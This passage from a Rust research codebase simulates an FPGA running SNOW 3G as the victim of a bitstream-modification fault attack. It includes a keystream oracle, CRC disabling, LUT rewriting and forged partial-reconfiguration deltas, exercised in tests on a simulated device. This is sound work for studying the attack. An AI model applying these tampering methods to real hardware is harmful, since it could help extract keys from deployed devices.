        refused.as_mut_bytes()[r.start + 64] ^= 0x02;
        let batch = vec![golden.clone(), faulted.clone(), refused.clone(), golden.clone()];
        let batched = b.keystream_batch(&batch, 6);
        for (i, bs) in batch.iter().enumerate() {
            match (&batched[i], b.generate_keystream(bs, 6)) {
                (Ok(got), Ok(want)) => assert_eq!(got, &want, "lane {i}"),
                (Err(_), Err(_)) => {}
                (got, want) => panic!("lane {i}: batched {got:?} vs serial {want:?}"),
            }
        }
    }

    #[test]
    fn software_fault_model_reference() {
        // The full α fault applied in software gives Table IV; the
        // attack crate must reproduce this through the bitstream.
        let z = FaultySnow3g::new(TEST_SET_1_KEY, TEST_SET_1_IV, FaultSpec::alpha()).keystream(16);
        assert_eq!(z, PAPER_TABLE_IV);
    }
}
