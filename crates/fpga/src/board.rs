//! The victim board: a SNOW 3G design implemented on the device, with
//! the interface an attacker actually has — *load a bitstream,
//! collect keystream words*.

use core::fmt;
use std::sync::Mutex;

use netlist::snow3g_circuit::{Snow3gCircuit, Snow3gCircuitConfig, WARMUP_CYCLES};
use netlist::NodeId;
use techmap::{map, MapConfig, MappedDesign};

use bitstream::partial::PartialBitstream;
use bitstream::{Bitstream, FrameData};
use boolfn::DualOutputInit;

use crate::fabric::{Fpga, PartialApplyError, ProgramError};
use crate::implementer::{implement, ImplementError, ImplementOptions, Implementation};

/// An error from board construction or operation.
#[derive(Debug)]
pub enum BoardError {
    /// Technology mapping failed.
    Map(techmap::MapError),
    /// Placement failed.
    Implement(ImplementError),
    /// Configuration was refused.
    Program(ProgramError),
    /// A partial-reconfiguration stream was refused.
    PartialApply(PartialApplyError),
    /// A partial stream arrived before any full load established the
    /// on-device configuration image it deltas against.
    NoPartialBase,
}

impl fmt::Display for BoardError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            BoardError::Map(e) => write!(f, "mapping failed: {e}"),
            BoardError::Implement(e) => write!(f, "implementation failed: {e}"),
            BoardError::Program(e) => write!(f, "programming failed: {e}"),
            BoardError::PartialApply(e) => write!(f, "partial reconfiguration refused: {e}"),
            BoardError::NoPartialBase => {
                write!(f, "no full configuration precedes this partial stream")
            }
        }
    }
}

impl std::error::Error for BoardError {}

impl From<techmap::MapError> for BoardError {
    fn from(e: techmap::MapError) -> Self {
        BoardError::Map(e)
    }
}

impl From<ImplementError> for BoardError {
    fn from(e: ImplementError) -> Self {
        BoardError::Implement(e)
    }
}

impl From<ProgramError> for BoardError {
    fn from(e: ProgramError) -> Self {
        BoardError::Program(e)
    }
}

/// The configuration-memory image a successful full load leaves on
/// the device — the base later frame-deltas are applied to.
struct PrBase {
    frames: FrameData,
    inits: Vec<DualOutputInit>,
}

/// A SNOW 3G victim board.
///
/// Construction runs the full implementation flow (circuit
/// generation → technology mapping → placement → bitstream). The
/// resulting board exposes the attack surface of Section IV-A: the
/// golden bitstream (as extracted from external flash) and the
/// ability to load modified bitstreams and observe the keystream.
pub struct Snow3gBoard {
    fpga: Fpga,
    golden: Bitstream,
    run_net: NodeId,
    z_nets: Vec<NodeId>,
    valid_net: NodeId,
    /// On-device configuration image: latched by every successful
    /// full load, advanced by every applied partial, dropped when a
    /// batched full-stream load leaves the final image unobserved.
    pr_base: Mutex<Option<PrBase>>,
    /// Ground-truth artifacts for tests and evaluation only.
    pub circuit: Snow3gCircuit,
    /// The mapped design (ground truth, tests only).
    pub design: MappedDesign,
    /// The placement (ground truth, tests only).
    pub implementation_placement: Vec<crate::geom::SiteId>,
}

impl fmt::Debug for Snow3gBoard {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "Snow3gBoard(protected: {}, bitstream: {} bytes, luts: {})",
            self.circuit.protected,
            self.golden.len(),
            self.design.luts.len()
        )
    }
}

impl Snow3gBoard {
    /// Builds a board for the given circuit configuration.
    ///
    /// # Errors
    ///
    /// Propagates mapping and placement failures.
    pub fn build(
        config: Snow3gCircuitConfig,
        options: &ImplementOptions,
    ) -> Result<Self, BoardError> {
        let circuit = Snow3gCircuit::generate(config);
        let design = map(&circuit.network, &MapConfig::default())?;
        let Implementation { fpga, bitstream, placement } = implement(&design, options)?;
        Ok(Self {
            fpga,
            golden: bitstream,
            run_net: circuit.run,
            z_nets: circuit.z_out.clone(),
            valid_net: circuit.valid,
            pr_base: Mutex::new(None),
            circuit,
            design,
            implementation_placement: placement,
        })
    }

    /// The bitstream as the attacker extracts it from the board's
    /// flash.
    #[must_use]
    pub fn extract_bitstream(&self) -> Bitstream {
        self.golden.clone()
    }

    /// The device model (geometry is public knowledge; the routing
    /// database inside is the implementation's static artifact).
    #[must_use]
    pub fn fpga(&self) -> &Fpga {
        &self.fpga
    }

    /// Loads `bitstream` and collects `words` keystream words — the
    /// oracle the attack drives. Returns an error if the device
    /// refuses the bitstream (bad CRC, wrong size).
    ///
    /// # Errors
    ///
    /// Propagates [`ProgramError`].
    pub fn generate_keystream(
        &self,
        bitstream: &Bitstream,
        words: usize,
    ) -> Result<Vec<u32>, BoardError> {
        let (frames, inits) = self.fpga.decode_with_frames(bitstream)?;
        let out = self.collect_keystream(inits.clone(), words);
        // The load succeeded: the configuration memory now holds this
        // stream's frames, and partial streams may delta against it.
        *self.pr_base.lock().expect("pr base lock") = Some(PrBase { frames, inits });
        Ok(out)
    }

    /// Runs a freshly-configured device (global set/reset just
    /// released) and collects `words` keystream words.
    fn collect_keystream(&self, inits: Vec<DualOutputInit>, words: usize) -> Vec<u32> {
        let mut dev = self.fpga.configured_from_inits(inits);
        dev.set_input(self.run_net, true);
        dev.run(WARMUP_CYCLES);
        let mut out = Vec::with_capacity(words);
        for _ in 0..words {
            dev.step();
            out.push(dev.word(&self.z_nets));
        }
        out
    }

    /// Whether a full load has established the on-device image partial
    /// streams delta against.
    ///
    /// # Panics
    ///
    /// Panics if a previous caller panicked while holding the
    /// internal lock.
    #[must_use]
    pub fn has_partial_base(&self) -> bool {
        self.pr_base.lock().expect("pr base lock").is_some()
    }

    /// Partial-reconfiguration oracle: applies a frame-delta to the
    /// current on-device image in O(touched frames), pulses global
    /// set/reset, and collects `words` keystream words — functionally
    /// identical to a full [`Self::generate_keystream`] of the
    /// bitstream the delta produces, at a fraction of the
    /// configuration traffic and decode work.
    ///
    /// # Errors
    ///
    /// [`BoardError::NoPartialBase`] if no full load preceded this
    /// call; [`BoardError::PartialApply`] if the device refuses the
    /// stream (the image is untouched in both cases).
    ///
    /// # Panics
    ///
    /// Panics if a previous caller panicked while holding the
    /// internal lock.
    pub fn generate_keystream_partial(
        &self,
        partial: &PartialBitstream,
        words: usize,
    ) -> Result<Vec<u32>, BoardError> {
        let inits = {
            let mut guard = self.pr_base.lock().expect("pr base lock");
            let base = guard.as_mut().ok_or(BoardError::NoPartialBase)?;
            self.fpga
                .apply_partial_base(&mut base.frames, &mut base.inits, partial)
                .map_err(BoardError::PartialApply)?;
            base.inits.clone()
        };
        Ok(self.collect_keystream(inits, words))
    }

    /// Batched partial oracle: applies each frame-delta to the image
    /// left by the previous lane (serial-chain semantics — lane `i`'s
    /// delta is against the post-lane-`i−1` image), then gang-runs the
    /// per-lane configurations. Per-item results are positionally
    /// aligned with the input; each lane is bit-identical to a serial
    /// [`Self::generate_keystream_partial`] call.
    ///
    /// A refused lane poisons the chain: the device image no longer
    /// matches what later deltas assume, so they — and the base — are
    /// dropped, and the next load must be full.
    ///
    /// # Panics
    ///
    /// Panics if a previous caller panicked while holding the
    /// internal lock.
    #[must_use]
    pub fn generate_keystream_partial_batch(
        &self,
        partials: &[PartialBitstream],
        words: usize,
    ) -> Vec<Result<Vec<u32>, BoardError>> {
        let mut guard = self.pr_base.lock().expect("pr base lock");
        let Some(mut base) = guard.take() else {
            return partials.iter().map(|_| Err(BoardError::NoPartialBase)).collect();
        };
        let mut out: Vec<Result<Vec<u32>, BoardError>> = Vec::with_capacity(partials.len());
        let mut live: Vec<(usize, Vec<DualOutputInit>)> = Vec::new();
        let mut poisoned = false;
        for (i, partial) in partials.iter().enumerate() {
            if poisoned {
                out.push(Err(BoardError::NoPartialBase));
                continue;
            }
            match self.fpga.apply_partial_base(&mut base.frames, &mut base.inits, partial) {
                Ok(_) => {
                    live.push((i, base.inits.clone()));
                    out.push(Ok(Vec::with_capacity(words)));
                }
                Err(e) => {
                    poisoned = true;
                    out.push(Err(BoardError::PartialApply(e)));
                }
            }
        }
        if !poisoned {
            *guard = Some(base);
        }
        drop(guard);
        for chunk in live.chunks(crate::gang::GANG_LANES) {
            let lanes: Vec<Vec<DualOutputInit>> =
                chunk.iter().map(|(_, inits)| inits.clone()).collect();
            let mut gang = crate::gang::GangConfiguredFpga::with_inits(&self.fpga, &lanes);
            gang.set_input(self.run_net, u64::MAX);
            gang.run(WARMUP_CYCLES);
            for _ in 0..words {
                gang.step();
                for (lane, (slot, _)) in chunk.iter().enumerate() {
                    let z = gang.word(lane, &self.z_nets);
                    if let Ok(zs) = &mut out[*slot] {
                        zs.push(z);
                    }
                }
            }
        }
        out
    }

    /// Batched oracle: loads every bitstream and collects `words`
    /// keystream words from each, packing up to
    /// [`GANG_LANES`](crate::GANG_LANES) candidates per gang
    /// simulation. Per-item results are positionally aligned with the
    /// input; a lane whose bitstream is refused gets its own error
    /// while the remaining lanes still run.
    ///
    /// Each lane is bit-identical to a serial
    /// [`generate_keystream`](Self::generate_keystream) call with the
    /// same bitstream — the board farm substitution the batched
    /// attack pipeline rests on (DESIGN.md §12).
    #[must_use]
    pub fn keystream_batch(
        &self,
        bitstreams: &[Bitstream],
        words: usize,
    ) -> Vec<Result<Vec<u32>, BoardError>> {
        // The batch's differential decode never materialises frame
        // images, so the final on-device image is unobserved: drop the
        // partial-reconfiguration base — the next partial caller must
        // re-establish it with a full load.
        *self.pr_base.lock().expect("pr base lock") = None;
        // Differential decode of the whole batch (one full walk, then
        // payload deltas), then dense-pack the accepted lanes into
        // gangs so a refused lane does not waste a slot.
        let mut out: Vec<Result<Vec<u32>, BoardError>> = Vec::with_capacity(bitstreams.len());
        let mut live: Vec<(usize, Vec<boolfn::DualOutputInit>)> = Vec::new();
        for (i, decoded) in self.fpga.decode_lut_inits_batch(bitstreams).into_iter().enumerate() {
            match decoded {
                Ok(inits) => {
                    live.push((i, inits));
                    out.push(Ok(Vec::with_capacity(words)));
                }
                Err(e) => out.push(Err(BoardError::Program(e))),
            }
        }
        for chunk in live.chunks(crate::gang::GANG_LANES) {
            let lanes: Vec<Vec<boolfn::DualOutputInit>> =
                chunk.iter().map(|(_, inits)| inits.clone()).collect();
            let mut gang = crate::gang::GangConfiguredFpga::with_inits(&self.fpga, &lanes);
            gang.set_input(self.run_net, u64::MAX);
            gang.run(WARMUP_CYCLES);
            for _ in 0..words {
                gang.step();
                for (lane, (slot, _)) in chunk.iter().enumerate() {
                    let z = gang.word(lane, &self.z_nets);
                    if let Ok(zs) = &mut out[*slot] {
                        zs.push(z);
                    }
                }
            }
        }
        out
    }

    /// Whether the `valid` output is asserted after warm-up with the
    /// given bitstream (diagnostics).
    ///
    /// # Errors
    ///
    /// Propagates [`ProgramError`].
    pub fn valid_after_warmup(&self, bitstream: &Bitstream) -> Result<bool, BoardError> {
        let mut dev = self.fpga.program(bitstream)?;
        dev.set_input(self.run_net, true);
        dev.run(WARMUP_CYCLES + 1);
        Ok(dev.net(self.valid_net))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use snow3g::vectors::{PAPER_TABLE_IV, TEST_SET_1_IV, TEST_SET_1_KEY};
    use snow3g::{FaultSpec, FaultySnow3g, Snow3g};

    fn board(protected: bool) -> Snow3gBoard {
        let config = Snow3gCircuitConfig { key: TEST_SET_1_KEY, iv: TEST_SET_1_IV, protected };
        Snow3gBoard::build(config, &ImplementOptions::default()).expect("board builds")
    }

    #[test]
    fn golden_bitstream_generates_correct_keystream() {
        let b = board(false);
        let z = b.generate_keystream(&b.extract_bitstream(), 4).expect("runs");
        let sw = Snow3g::new(TEST_SET_1_KEY, TEST_SET_1_IV).keystream(4);
        assert_eq!(z, sw, "the board is a faithful SNOW 3G device");
        assert!(b.valid_after_warmup(&b.extract_bitstream()).unwrap());
    }

    #[test]
    fn protected_board_same_function() {
        let b = board(true);
        let z = b.generate_keystream(&b.extract_bitstream(), 2).expect("runs");
        assert_eq!(z, vec![0xABEE9704, 0x7AC31373]);
    }

    #[test]
    fn tampered_bitstream_rejected_until_crc_disabled() {
        let b = board(false);
        let mut bs = b.extract_bitstream();
        let range = bs.fdri_data_range().unwrap();
        bs.as_mut_bytes()[range.start + 2048] ^= 0x01;
        assert!(matches!(
            b.generate_keystream(&bs, 1),
            Err(BoardError::Program(ProgramError::Bitstream(_)))
        ));
        bs.disable_crc();
        assert!(b.generate_keystream(&bs, 1).is_ok());
    }

    #[test]
    fn ground_truth_fault_injection_recovers_state() {
        // Sanity for the attack to come: modify, via ground truth
        // placement, all LUTs whose cones realise the v faults, and
        // check the keystream equals the software fault model. Here
        // we take the cheap route: rewrite every LUT that the design
        // says computes a z-path cover to constant zero and verify
        // the output bits die.
        let b = board(false);
        let mut bs = b.extract_bitstream();
        let range = bs.fdri_data_range().unwrap();
        // Find, via ground truth, the LUT whose o6 net is the D input
        // of z_reg bit 0 (the f2 LUT of bit 0) and zero it.
        let z0 = b.circuit.z_out[0];
        let d0 = b.design.dffs.iter().find(|ff| ff.q == z0).unwrap().d;
        let (idx, _) = b
            .design
            .luts
            .iter()
            .enumerate()
            .find(|(_, l)| l.o6 == d0 || l.o5 == Some(d0))
            .expect("z0 driver is a LUT");
        let site = b.implementation_placement[idx];
        let loc = b.fpga().geometry().lut_location(site);
        let data = &mut bs.as_mut_bytes()[range];
        bitstream::codec::write_lut(data, loc, boolfn::DualOutputInit::new(0));
        bs.recompute_crc();
        let z = b.generate_keystream(&bs, 8).expect("runs");
        assert!(z.iter().all(|w| w & 1 == 0), "bit 0 stuck at 0: {z:08x?}");
        // Other bits unaffected.
        let sw = Snow3g::new(TEST_SET_1_KEY, TEST_SET_1_IV).keystream(8);
        assert!(z.iter().zip(&sw).all(|(a, b)| (a & !1) == (b & !1)));
    }

    #[test]
    fn keystream_batch_matches_serial_per_lane() {
        let b = board(false);
        let golden = b.extract_bitstream();
        // Three variants: golden, one faulted LUT, one refused (bad
        // CRC) — the refused lane must not disturb its neighbours.
        let mut faulted = golden.clone();
        let range = faulted.fdri_data_range().unwrap();
        let z0 = b.circuit.z_out[0];
        let d0 = b.design.dffs.iter().find(|ff| ff.q == z0).unwrap().d;
        let (idx, _) = b
            .design
            .luts
            .iter()
            .enumerate()
            .find(|(_, l)| l.o6 == d0 || l.o5 == Some(d0))
            .expect("z0 driver is a LUT");
        let site = b.implementation_placement[idx];
        let loc = b.fpga().geometry().lut_location(site);
        bitstream::codec::write_lut(
            &mut faulted.as_mut_bytes()[range],
            loc,
            boolfn::DualOutputInit::new(0),
        );
        faulted.recompute_crc();
        let mut refused = golden.clone();
        let r = refused.fdri_data_range().unwrap();
        refused.as_mut_bytes()[r.start + 64] ^= 0x02;
        let batch = vec![golden.clone(), faulted.clone(), refused.clone(), golden.clone()];
        let batched = b.keystream_batch(&batch, 6);
        for (i, bs) in batch.iter().enumerate() {
            match (&batched[i], b.generate_keystream(bs, 6)) {
                (Ok(got), Ok(want)) => assert_eq!(got, &want, "lane {i}"),
                (Err(_), Err(_)) => {}
                (got, want) => panic!("lane {i}: batched {got:?} vs serial {want:?}"),
            }
        }
    }

    #[test]
    fn partial_load_equals_full_load_of_the_candidate() {
        let b = board(false);
        let golden = b.extract_bitstream();
        assert!(!b.has_partial_base());
        assert!(matches!(
            b.generate_keystream_partial(&bitstream::PartialBitstream::from_bytes(vec![0; 64]), 1),
            Err(BoardError::NoPartialBase)
        ));
        let full_golden = b.generate_keystream(&golden, 6).expect("full load");
        assert!(b.has_partial_base());

        // Forge a delta for a one-LUT edit and ship it partially.
        let mut forge = bitstream::PartialForge::new(&golden).expect("analyzes");
        let mut cand = golden.clone();
        let range = cand.fdri_data_range().unwrap();
        let z0 = b.circuit.z_out[0];
        let d0 = b.design.dffs.iter().find(|ff| ff.q == z0).unwrap().d;
        let (idx, _) = b
            .design
            .luts
            .iter()
            .enumerate()
            .find(|(_, l)| l.o6 == d0 || l.o5 == Some(d0))
            .expect("z0 driver is a LUT");
        let site = b.implementation_placement[idx];
        let loc = b.fpga().geometry().lut_location(site);
        bitstream::codec::write_lut(
            &mut cand.as_mut_bytes()[range],
            loc,
            boolfn::DualOutputInit::new(0),
        );
        cand.recompute_crc();
        let delta = forge.delta(&golden, &cand).expect("expressible");
        assert!(delta.stream.len() < golden.len() / 10, "delta ships a fraction of the bytes");

        let via_partial = b.generate_keystream_partial(&delta.stream, 6).expect("applies");
        let via_full = b.generate_keystream(&cand, 6).expect("full load");
        assert_eq!(via_partial, via_full, "partial load behaves as the full candidate load");

        // Roll back to golden with a second delta (the image now holds
        // the candidate) and check the batch path too.
        let back = forge.delta(&cand, &golden).expect("rollback delta");
        let again = forge.delta(&golden, &cand).expect("re-edit delta");
        let batched = b.generate_keystream_partial_batch(&[back.stream, again.stream.clone()], 6);
        assert_eq!(batched[0].as_ref().expect("rollback lane"), &full_golden);
        assert_eq!(batched[1].as_ref().expect("edit lane"), &via_full);

        // A garbled delta poisons the chain: its lane and all later
        // lanes fail, and the base is dropped.
        let poisoned = b.generate_keystream_partial_batch(
            &[bitstream::PartialBitstream::from_bytes(vec![0xAA; 96]), again.stream.clone()],
            2,
        );
        assert!(matches!(poisoned[0], Err(BoardError::PartialApply(_))));
        assert!(matches!(poisoned[1], Err(BoardError::NoPartialBase)));
        assert!(!b.has_partial_base(), "refusal mid-chain drops the base");
    }

    #[test]
    fn software_fault_model_reference() {
        // The full α fault applied in software gives Table IV; the
        // attack crate must reproduce this through the bitstream.
        let z = FaultySnow3g::new(TEST_SET_1_KEY, TEST_SET_1_IV, FaultSpec::alpha()).keystream(16);
        assert_eq!(z, PAPER_TABLE_IV);
    }
}
