//! The implementation flow: place a mapped design onto a device and
//! emit its configuration bitstream.
//!
//! Placement assigns each packed LUT a site in a deterministic,
//! seed-scrambled order (mimicking the spatial dispersion of a real
//! placer — which is what forces the attack to search the whole
//! bitstream rather than predict offsets). Bitstream emission writes
//! every used site's INIT value into the frames, fills the unused
//! INIT slots with zeros (unconfigured LUTs) and fills the routing
//! frames with pseudorandom bits standing in for interconnect
//! configuration — a realistic source of false positives for the
//! LUT search, which the attack's verification step must prune.

use core::fmt;

use rand::rngs::SmallRng;
use rand::{Rng, RngCore, SeedableRng};

use bitstream::{codec, Bitstream, BitstreamBuilder, FrameData};
use techmap::MappedDesign;

use crate::fabric::{BramCellDb, FfCell, Fpga, LutCell, RoutingDb};
use crate::geom::{Geometry, InitLayout, SiteId};

/// Options for the implementation flow.
#[derive(Debug, Clone, Copy)]
pub struct ImplementOptions {
    /// Placement / filler seed.
    pub seed: u64,
    /// Slice columns; `None` sizes the device automatically with
    /// ~30% spare capacity.
    pub columns: Option<usize>,
    /// Device family (sub-vector layout; determines the stride `d`).
    pub layout: InitLayout,
}

impl Default for ImplementOptions {
    fn default() -> Self {
        Self { seed: 0x5EED_F00D, columns: None, layout: InitLayout::FourFrames }
    }
}

/// An implemented design: the device (with its static routing
/// database) and the golden bitstream.
#[derive(Debug, Clone)]
pub struct Implementation {
    /// The programmed device model.
    pub fpga: Fpga,
    /// The golden (unmodified) bitstream.
    pub bitstream: Bitstream,
    /// Site assigned to each packed LUT, in [`MappedDesign::luts`]
    /// order (ground truth for tests; the attack never reads it).
    pub placement: Vec<SiteId>,
}

/// An error from [`implement`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ImplementError {
    /// The design needs more LUT sites than the device offers.
    Capacity {
        /// LUTs to place.
        needed: usize,
        /// Sites available.
        available: usize,
    },
}

impl fmt::Display for ImplementError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ImplementError::Capacity { needed, available } => {
                write!(f, "design needs {needed} LUT sites, device has {available}")
            }
        }
    }
}

impl std::error::Error for ImplementError {}

/// Places `design` and emits its bitstream.
///
/// # Errors
///
/// Returns [`ImplementError::Capacity`] if the device is too small.
pub fn implement(
    design: &MappedDesign,
    options: &ImplementOptions,
) -> Result<Implementation, ImplementError> {
    let needed = design.luts.len();
    let make = |c: usize| match options.layout {
        InitLayout::FourFrames => Geometry::with_columns(c),
        InitLayout::QuarterFrame => Geometry::with_columns_quarter(c),
    };
    let geometry = match options.columns {
        Some(c) => make(c),
        None => {
            let per_column = make(1).site_count();
            let columns = (needed * 13 / 10).div_ceil(per_column).max(2);
            make(columns)
        }
    };
    geometry.assert_valid();
    if needed > geometry.site_count() {
        return Err(ImplementError::Capacity { needed, available: geometry.site_count() });
    }

    // Seed-scrambled placement.
    let mut rng = SmallRng::seed_from_u64(options.seed);
    let mut sites: Vec<SiteId> = geometry.sites().collect();
    // Fisher-Yates shuffle.
    for i in (1..sites.len()).rev() {
        let j = rng.gen_range(0..=i);
        sites.swap(i, j);
    }
    let placement: Vec<SiteId> = sites[..needed].to_vec();

    // Routing database.
    let mut db = RoutingDb::default();
    for (lut, &site) in design.luts.iter().zip(&placement) {
        db.luts.push(LutCell { site, inputs: lut.inputs.clone(), o6: lut.o6, o5: lut.o5 });
    }
    for ff in &design.dffs {
        db.ffs.push(FfCell { q: ff.q, d: ff.d, init: ff.init });
    }
    for bram in &design.brams {
        db.brams.push(BramCellDb {
            table: Box::new(*design.network.rom_table(bram.rom)),
            addr: bram.addr.clone(),
            data: bram.data.clone(),
        });
    }
    for (id, node) in design.network.iter() {
        match &node.kind {
            netlist::NodeKind::Input { name } => db.inputs.push((name.clone(), id)),
            netlist::NodeKind::Const(b) => db.ties.push((id, *b)),
            _ => {}
        }
    }

    // Frames: LUT INITs + pseudorandom routing filler.
    let mut frames = FrameData::new(geometry.frame_count());
    for range in geometry.non_init_ranges() {
        rng.fill_bytes(&mut frames.as_mut_bytes()[range]);
    }
    for (lut, &site) in design.luts.iter().zip(&placement) {
        codec::write_lut(frames.as_mut_bytes(), geometry.lut_location(site), lut.init);
    }
    let bitstream = BitstreamBuilder::new(frames).build();

    let fpga = Fpga::new(geometry, db);
    Ok(Implementation { fpga, bitstream, placement })
}

#[cfg(test)]
mod tests {
    use super::*;
    use netlist::Network;
    use techmap::{map, MapConfig};

    fn small_design() -> MappedDesign {
        let mut n = Network::new();
        let a = n.input("a");
        let ff = n.dff(false);
        let x = n.xor(ff, a);
        n.connect_dff(ff, x);
        n.set_output("q", ff);
        map(&n, &MapConfig::default()).expect("maps")
    }

    #[test]
    fn implement_small_design() {
        let design = small_design();
        let imp = implement(&design, &ImplementOptions::default()).expect("implements");
        assert_eq!(imp.placement.len(), design.luts.len());
        let dev = imp.fpga.program(&imp.bitstream).expect("golden bitstream programs");
        assert_eq!(dev.cycle(), 0);
    }

    #[test]
    fn behaviour_matches_mapped_design() {
        let design = small_design();
        let imp = implement(&design, &ImplementOptions::default()).expect("implements");
        let mut dev = imp.fpga.program(&imp.bitstream).expect("programs");
        let a = design.network.inputs()[0];
        let q = design.network.output("q").unwrap();
        dev.set_input(a, true);
        let mut expected = false;
        for _ in 0..5 {
            dev.step();
            expected = !expected;
            assert_eq!(dev.net(q), expected);
        }
    }

    #[test]
    fn different_seeds_move_luts() {
        let design = small_design();
        let a = implement(
            &design,
            &ImplementOptions { seed: 1, columns: Some(2), ..ImplementOptions::default() },
        )
        .unwrap();
        let b = implement(
            &design,
            &ImplementOptions { seed: 2, columns: Some(2), ..ImplementOptions::default() },
        )
        .unwrap();
        assert_ne!(a.placement, b.placement);
        // But both behave identically.
        let run = |imp: &Implementation| {
            let mut dev = imp.fpga.program(&imp.bitstream).unwrap();
            let ain = design.network.inputs()[0];
            dev.set_input(ain, true);
            dev.run(3);
            dev.net(design.network.output("q").unwrap())
        };
        assert_eq!(run(&a), run(&b));
    }

    #[test]
    fn capacity_error() {
        let _design = small_design();
        // Zero columns is never generated; force a too-small device
        // by placing into 1 column with 0 rows... instead use columns
        // chosen so sites < luts: smallest is columns=1 but min is 2
        // in auto mode; use explicit tiny geometry via columns: the
        // design has few LUTs so build a bigger design instead.
        let mut n = Network::new();
        let inputs: Vec<_> = (0..12).map(|i| n.input(format!("i{i}"))).collect();
        // Lots of distinct 6-input functions.
        for w in 0..600 {
            let g1 = n.and(inputs[w % 12], inputs[(w + 1) % 12]);
            let g2 = n.xor(g1, inputs[(w + 2) % 12]);
            let g3 = n.or(g2, inputs[(w + 3) % 12]);
            n.set_output(format!("o{w}"), g3);
        }
        let big = map(&n, &MapConfig::default()).unwrap();
        let r = implement(
            &big,
            &ImplementOptions { seed: 0, columns: Some(1), ..ImplementOptions::default() },
        );
        if big.luts.len() > Geometry::with_columns(1).site_count() {
            assert!(matches!(r, Err(ImplementError::Capacity { .. })));
        }
    }

    #[test]
    fn filler_present_in_routing_frames() {
        let design = small_design();
        let imp = implement(&design, &ImplementOptions::default()).unwrap();
        let cfg = imp.bitstream.parse().unwrap();
        let ranges = imp.fpga.geometry().non_init_ranges();
        let filler_bytes: usize = ranges
            .iter()
            .map(|r| cfg.frames.as_bytes()[r.clone()].iter().filter(|&&b| b != 0).count())
            .sum();
        assert!(filler_bytes > 1000, "routing frames must carry filler bits");
    }
}
