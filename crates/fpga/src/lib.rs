//! A cycle-accurate model of an SRAM-based FPGA ("SimArtix") that is
//! configured from a bitstream.
//!
//! This crate is the substitute for the Xilinx Artix-7 board used in
//! the paper's experiments. It separates, exactly along the attack
//! boundary, the two artifacts a bitstream-modification adversary
//! interacts with:
//!
//! * the **device** ([`Fpga`]): a fixed site grid (slices of four
//!   dual-output LUTs, SLICEL/SLICEM columns), flip-flops, block RAMs
//!   and a static routing database produced by the implementation
//!   flow. Routing is *not* re-derived from the bitstream — the
//!   attack only rewrites LUT truth tables, so modelling the routing
//!   bits as opaque filler preserves the attack surface (see
//!   DESIGN.md);
//! * the **bitstream** (from the [`bitstream`] crate): the only thing
//!   the attacker touches. LUT INIT values are read from the frames
//!   at configuration time; the CRC is enforced; modified LUT content
//!   changes device behaviour exactly as in hardware.
//!
//! [`Snow3gBoard`] wires a generated SNOW 3G circuit through
//! technology mapping, placement and bitstream emission, and exposes
//! the victim-device interface: *load a bitstream, read keystream
//! words*.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod board;
pub mod fabric;
pub mod gang;
pub mod geom;
pub mod implementer;
pub mod sealed;
pub mod unreliable;

pub use board::{BoardError, Snow3gBoard};
pub use fabric::{ConfiguredFpga, Fpga, PartialApplyError, ProgramError};
pub use gang::{GangConfiguredFpga, GANG_LANES};
pub use geom::{Geometry, InitLayout, SiteId};
pub use implementer::{implement, ImplementError, ImplementOptions, Implementation};
pub use sealed::{SealedBoard, SealedLoadError};
pub use unreliable::{
    FaultProfile, FaultSnapshot, FaultStats, ReadOutcome, ReadPlan, RestoreError, UnreliableBoard,
};
