//! The device fabric: static routing database, configuration from a
//! bitstream, and cycle simulation.

use core::fmt;
use std::collections::HashMap;

use boolfn::DualOutputInit;
use netlist::NodeId;

use bitstream::partial::{ParsePartialError, PartialBitstream};
use bitstream::{codec, Bitstream, DeltaCrc, FrameData, ParseBitstreamError, FRAME_BYTES};

use crate::geom::{Geometry, SiteId};

/// A net identifier (inherited from the source design's node ids).
pub type NetId = NodeId;

/// A placed LUT cell: the site tells the configuration logic where
/// its truth table lives; the nets are part of the static routing.
#[derive(Debug, Clone)]
pub struct LutCell {
    /// The physical site.
    pub site: SiteId,
    /// Input nets in pin order `a1..`.
    pub inputs: Vec<NetId>,
    /// Net driven by O6.
    pub o6: NetId,
    /// Net driven by O5 (fractured LUTs).
    pub o5: Option<NetId>,
}

/// A flip-flop cell.
#[derive(Debug, Clone, Copy)]
pub struct FfCell {
    /// Output net.
    pub q: NetId,
    /// Data input net.
    pub d: NetId,
    /// Power-up value (set by global set/reset at configuration).
    pub init: bool,
}

/// A block RAM configured as a 256×32 ROM. Contents are part of the
/// static database in this model (see DESIGN.md).
#[derive(Debug, Clone)]
pub struct BramCellDb {
    /// ROM contents.
    pub table: Box<[u32; 256]>,
    /// Address nets (LSB first).
    pub addr: Vec<NetId>,
    /// Data nets (LSB first).
    pub data: Vec<NetId>,
}

/// The static part of an implemented design: everything except LUT
/// truth tables.
#[derive(Debug, Clone, Default)]
pub struct RoutingDb {
    /// Placed LUTs.
    pub luts: Vec<LutCell>,
    /// Flip-flops.
    pub ffs: Vec<FfCell>,
    /// Block RAMs.
    pub brams: Vec<BramCellDb>,
    /// Primary input nets with names.
    pub inputs: Vec<(String, NetId)>,
    /// Nets tied to constants.
    pub ties: Vec<(NetId, bool)>,
}

/// An error from [`Fpga::program`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ProgramError {
    /// The bitstream failed to parse or its CRC mismatched — the
    /// device refuses configuration (INIT_B low).
    Bitstream(ParseBitstreamError),
    /// The payload has the wrong number of frames for this device.
    WrongFrameCount {
        /// Frames found.
        got: usize,
        /// Frames the device expects.
        expected: usize,
    },
    /// The bitstream was built for a different device (IDCODE
    /// mismatch) — real devices refuse such streams.
    WrongDevice {
        /// IDCODE found in the stream, if any.
        got: Option<u32>,
        /// This device's IDCODE.
        expected: u32,
    },
    /// The configuration port glitched mid-load (`INIT_B` pulsed low
    /// with a valid stream). Transient: retrying the same load can
    /// succeed. Only injected by fault models such as
    /// [`crate::UnreliableBoard`]; the ideal fabric never emits it.
    TransientLoad,
    /// The configuration interface stopped responding before `DONE`
    /// went high. Transient: retrying can succeed.
    ConfigTimeout {
        /// Milliseconds waited before giving up (simulated).
        ms: u64,
    },
    /// The board died permanently (power/fabric failure). Not
    /// transient: no retry on this board can succeed — the session
